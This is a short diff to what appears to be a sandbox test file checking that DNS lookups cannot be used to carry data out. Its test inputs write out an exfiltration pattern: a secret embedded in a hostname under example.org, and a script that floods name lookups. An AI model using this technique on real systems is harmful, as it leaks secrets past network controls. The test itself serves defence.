@@ -171,7 +171,8 @@ def test_names_are_no_way_out_for_data(w: World):
         sh(w, f"{program} -m 5 http://{secret}.example.org:8080/", code=None)
         equal(NAMES.asked, [])
         check("may not be that long" in denials(w)[0]["message"] or "looks like data" in denials(w)[0]["message"])
-    script = "import socket\nfor i in range(1100):\n try: socket.gethostbyname(f'n{i}.example.org')\n except OSError: pass"
+    script = ("import socket\nfor i in range(1100):\n"
+              " try: socket.gethostbyname(f'n{i}.example.org')\n except OSError: pass")
     del NAMES.asked[:]
     w.run("python3", "-c", script, options=KEPT)
     equal(len({name for name, _ in NAMES.asked}), 1000)
